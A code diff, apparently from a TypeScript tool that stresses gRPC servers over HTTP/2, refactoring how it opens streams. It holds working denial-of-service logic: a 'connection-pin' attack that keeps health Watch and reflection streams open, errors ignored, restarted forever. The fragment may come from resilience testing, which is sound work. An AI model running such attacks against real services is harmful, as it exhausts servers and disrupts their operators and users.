@@ -44,17 +44,15 @@ function h2(): http2.ClientHttp2Session {
   return session;
 }
 
-/** A server-reflection stream on session (errors ignored: the attack goes on). */
-function reflectionStream(session: http2.ClientHttp2Session): http2.ClientHttp2Stream {
-  const stream = session.request({
-    ":method": "POST",
-    ":path": "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
-    "content-type": "application/grpc",
-    te: "trailers",
-  });
+/** A gRPC stream to path on session (errors ignored: the attack goes on). */
+function grpcStream(session: http2.ClientHttp2Session, path: string): http2.ClientHttp2Stream {
+  const stream = session.request({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" });
   stream.on("error", () => {});
   return stream;
 }
+
+const reflectionStream = (session: http2.ClientHttp2Session) =>
+  grpcStream(session, "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo");
 
 /** Runs body again whenever it ends or fails, forever. */
 function forever(body: () => Promise<unknown>): void {
@@ -203,13 +201,7 @@ const attacks: Record<string, () => Promise<void> | void> = {
   async "connection-pin"() {
     const open = async () => {
       const session = h2();
-      const stream = session.request({
-        ":method": "POST",
-        ":path": "/grpc.health.v1.Health/Watch",
-        "content-type": "application/grpc",
-        te: "trailers",
-      });
-      stream.on("error", () => {});
+      const stream = grpcStream(session, "/grpc.health.v1.Health/Watch");
       stream.resume();
       stream.end(grpcMessage(Buffer.alloc(0)));
       await new Promise((resolve) => {
